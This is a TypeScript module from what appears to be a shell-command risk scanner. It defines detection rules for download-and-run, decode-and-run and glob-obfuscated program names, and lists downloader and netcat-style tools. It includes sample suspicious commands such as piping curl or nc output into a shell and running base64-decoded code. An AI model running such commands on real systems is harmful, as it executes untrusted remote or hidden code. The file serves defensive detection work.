import type { Program, ShellReading } from '../shell.ts';
import { codeGiven, isInterpreter as isInterpreterName } from '../script-code.ts';
import { globbed } from '../shell-globs.ts';
import { isDecoder } from '../shell-output.ts';
import { shells } from '../shell-wrappers.ts';
import { hasOption, operands, optionValue, sourcesOf, type Rule } from './rule.ts';
import { normalised, redirectedTo } from './paths.ts';

const downloaders = new Set([
  'curl',
  'wget',
  'fetch',
  'aria2c',
  'lwp-request',
  'lwp-download',
  'GET',
  'http',
  'https',
  'axel',
  'lynx',
  'tftp',
  'ftp',
]);
export const netcats = /^(nc|ncat|netcat|nc\.(traditional|openbsd)|pnc)$/;
const sockets = (program: Program): boolean =>
  netcats.test(program.name) ||
  ['socat', 'telnet', 'cryptcat', 'sbd'].includes(program.name) ||
  (program.name === 'openssl' && program.args[0] === 's_client');

export const isShell = (program: Program): boolean => shells.has(program.name);
export const isInterpreter = (program: Program): boolean => isInterpreterName(program.name);
export const isDownloader = (program: Program): boolean => downloaders.has(program.name);
export const isSocket = sockets;

/** Whether a program takes what it runs from its input, its words or a substitution, and not from a script file. */
export function runsWhatItReads(program: Program): boolean {
  if (program.path.startsWith('$(')) return true;
  if (program.name === 'eval' || program.name === 'source' || program.name === '.') return true;
  const words = operands(program);
  const standsForInput = words.length === 0 || /^(-|\/dev\/(stdin|fd\/\d+)|\/proc\/self\/fd\/0)$/.test(words[0] ?? '');
  if (isShell(program))
    return standsForInput || hasOption(program, 's') || (hasOption(program, 'c') && words.some((word) => word.includes('$(')));
  return isInterpreter(program) && standsForInput && program.args.every((word) => /^(-|-u|\/dev\/(stdin|fd\/\d+))$/.test(word));
}

/** Files a downloader leaves behind, as their paths. */
function fetchedFiles(program: Program): string[] {
  const named = optionValue(program, ...(program.name === 'wget' ? ['-O', '--output-document'] : ['-o', '--output', '--out']));
  const last = operands(program).at(-1)?.split(/[?#]/)[0] ?? '';
  const implied = program.name !== 'curl' || hasOption(program, 'O', '--remote-name') ? last.slice(last.lastIndexOf('/') + 1) : '';
  return [named ?? implied, ...redirectedTo(program)]
    .filter((file) => file !== '' && file !== '-' && !file.startsWith('/dev/'))
    .map((file) => normalised(file, null));
}

function runsFetched(program: Program, reading: ShellReading): boolean {
  const byReader = isShell(program) || isInterpreter(program) || program.name === 'source' || program.name === '.';
  const started = byReader ? (operands(program)[0] ?? '') : program.path;
  if (started === '' || !(byReader || started.includes('/'))) return false;
  const file = normalised(started, null);
  return reading.programs.some((other) => isDownloader(other) && fetchedFiles(other).includes(file));
}

const scriptAddress = /^(https?|ftp):\/\/[^\s?#]+\.(sh|bash)([?#]|$)/i;

/** The code a program is given on the line, empty for none. */
export const codeOf = (program: Program): string => codeGiven(program.name, program.args, program.input);

const codeDecodes =
  /b64decode|base64_decode|decode_base64|fromhex|unhexlify|pack\s*\(\s*["']H|Buffer\.from\([^)]*base64|codecs\.decode|zlib\.decompress|chr\(\d+\)(\s*[.+]\s*chr\(\d+\)){3}/;
const codeRuns = /\b(exec|eval|system|popen|spawn|os\.execute|__import__)\b/;
export const execution: readonly Rule[] = [
  {
    code: 'DOWNLOAD_AND_RUN',
    tactic: 'EXECUTION',
    points: 50,
    find(program, reading) {
      if (runsWhatItReads(program)) {
        const source = sourcesOf(program, reading).find(
          (candidate) => isDownloader(candidate) || (sockets(candidate) && candidate !== program),
        );
        if (source !== undefined) return `runs what ${source.name} downloads`;
      }
      if (runsFetched(program, reading)) return 'runs a file the same line downloads';
      const script =
        isDownloader(program) && program.name !== 'curl' ? operands(program).find((word) => scriptAddress.test(word)) : undefined;
      const kept = program.name === 'curl' && (hasOption(program, 'oO', '--output', '--remote-name') || redirectedTo(program).length > 0);
      return script !== undefined || (kept && operands(program).some((word) => scriptAddress.test(word)))
        ? 'downloads a shell script'
        : null;
    },
    suspicious: [
      'curl x | bash',
      'wget -O- http://h/x | sh',
      'bash <(curl -s x)',
      'sh -c "$(curl -fsSL x)"',
      'curl -o x.sh http://h/x && sh x.sh',
      'wget http://h/x.sh',
      'eval "$(curl x)"',
      '. <(curl x)',
      'curl x | sudo bash -s -- -y',
      'curl x | python3 -',
      'X=$(curl y); sh -c "$X"',
      'wget http://h/agent; chmod +x agent; ./agent',
      'curl x | tee y | sh',
      '`curl x`',
      'nc h 1 | sh',
    ],
    harmless: [
      'curl x | jq .',
      'curl x | python3 -m json.tool',
      'curl -O http://h/x.tar.gz',
      'wget http://h/x.iso',
      'curl x | grep bash',
      'curl http://h/x.sh',
      'curl x | perl -pe s/a/b/',
      'curl x > y; less y',
      'ls | sh build.sh',
      'curl -o x http://h/x; sh ./other',
    ],
  },
  {
    code: 'DECODE_AND_RUN',
    tactic: 'EXECUTION',
    points: 50,
    find(program, reading) {
      const code = codeOf(program);
      if (codeDecodes.test(code) && codeRuns.test(code)) return `runs encoded code in ${program.name}`;
      if (!runsWhatItReads(program)) return null;
      const decoder = sourcesOf(program, reading).find((source) => isDecoder(source.name, source.args));
      return decoder === undefined ? null : `runs what ${decoder.name} decodes`;
    },
    suspicious: [
      'echo bHM= | base64 -d | sh',
      'base64 --decode x | bash',
      'eval "$(echo bHM= | base64 -d)"',
      'xxd -r -p x | sh',
      'bash <<< "$(base64 -d <<< bHM=)"',
      'python3 -c "import base64;exec(base64.b64decode(\'eA==\'))"',
      'openssl enc -d -base64 -in x | sh',
    ],
    harmless: [
      'base64 -d x > y',
      'echo bHM= | base64 -d',
      'echo x | base64',
      'python3 -c "import base64;print(base64.b64decode(\'eA==\'))"',
      'base64 -d x | jq .',
    ],
  },
  {
    code: 'PATTERN_FOR_PROGRAM',
    tactic: 'DEFENCE_EVASION',
    points: 50,
    find: (program) =>
      /^\/[^/]*[?*[]/.test(program.path) && globbed(program.path) !== program.path
        ? `hides the name of ${program.name} behind a pattern`
        : null,
    suspicious: ['/???/c?t x', '/b?n/b[a]sh x', '/*/?in/wget h'],
    harmless: ['./build-*/run', '/opt/*/bin/start', 'ls /???/c?t', '/usr/bin/python3.?'],
  },
];
